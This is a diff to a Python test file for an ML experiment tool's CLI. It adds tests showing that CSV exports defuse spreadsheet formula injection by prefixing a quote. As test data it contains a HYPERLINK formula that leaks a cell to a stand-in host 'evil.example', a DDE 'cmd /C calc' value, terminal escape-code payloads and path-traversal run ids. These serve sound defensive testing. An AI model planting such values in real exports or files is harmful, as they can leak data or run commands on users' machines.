@@ -4,7 +4,9 @@ terminal escape codes. Each test builds the store with the real store code, then
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
 import sqlite3
 from contextlib import closing
@@ -18,6 +20,7 @@ from test_experiments import TINY, write
 from mnistlab.cli import main
 from mnistlab.errors import StoreError
 from mnistlab.execute import run_experiment
+from mnistlab.files import csv_text
 from mnistlab.store import RunStore
 
 
@@ -110,6 +113,35 @@ def test_a_comparisons_csv_escapes_a_names_terminal_codes(tmp_path: Path, capsys
     assert main(["compare", *ids, "--format", "csv", "--store", str(tmp_path)]) == 0
     out = capsys.readouterr().out
     assert "\x1b" not in out and "\x07" not in out and "v\\x1b]0;PWNED\\x07\\x1b[2J" in out, out
+
+
+def test_csv_outputs_give_a_formula_as_text_a_spreadsheet_does_not_run(tmp_path: Path,
+                                                                        capsys: pytest.CaptureFixture[str]) -> None:
+    """A variant named =HYPERLINK(...) was a live link (or, with DDE, a command) when `compare` or
+    `runs --format csv` was opened in a spreadsheet: it is led by ', as OWASP advises; numbers keep their sign."""
+    store = RunStore(tmp_path)
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    ids = []
+    for seed, variant in ((0, hostile), (1, hostile), (2, "@SUM(1+1)*cmd")):
+        rid = store.start_run(experiment="e", variant=variant, seed=seed, member=0, config={"dataset": "mnist"},
+                              config_hash=f"h{seed}")
+        store.finish_run(rid, status="finished", history=[], metrics={"test_accuracy": 0.5, "test_loss": -0.25}, env={})
+        ids.append(rid)
+    store.close()
+    assert main(["compare", *ids, "--format", "csv", "--store", str(tmp_path)]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert sorted(r["variant"] for r in rows) == ["'" + hostile, "'@SUM(1+1)*cmd"], rows
+    assert main(["runs", "--format", "csv", "--store", str(tmp_path)]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert sorted(r["variant"] for r in rows) == ["'" + hostile, "'" + hostile, "'@SUM(1+1)*cmd"], rows
+    assert all(not cell.startswith(("=", "@", "+")) for r in rows for cell in r.values()), rows
+
+
+@pytest.mark.parametrize(("text", "cell"), [("=1+2", "'=1+2"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+                                            ("-2+3", "'-2+3"), ("@x", "'@x"), ("-0.5", "-0.5"), ("+1e-3", "+1e-3"),
+                                            ("a=b", "a=b"), ("\x1b=", "\\x1b="), ("=\x07", "'=\\x07")])
+def test_csv_text_leads_a_formula_by_a_quote_and_keeps_a_numbers_sign(text: str, cell: str) -> None:
+    assert csv_text(text) == cell
 
 
 @pytest.mark.parametrize("run_id", ["aaaaaaaaaa/../../../victim", "../../v/sub", "ABCDEF0123", "abc"])
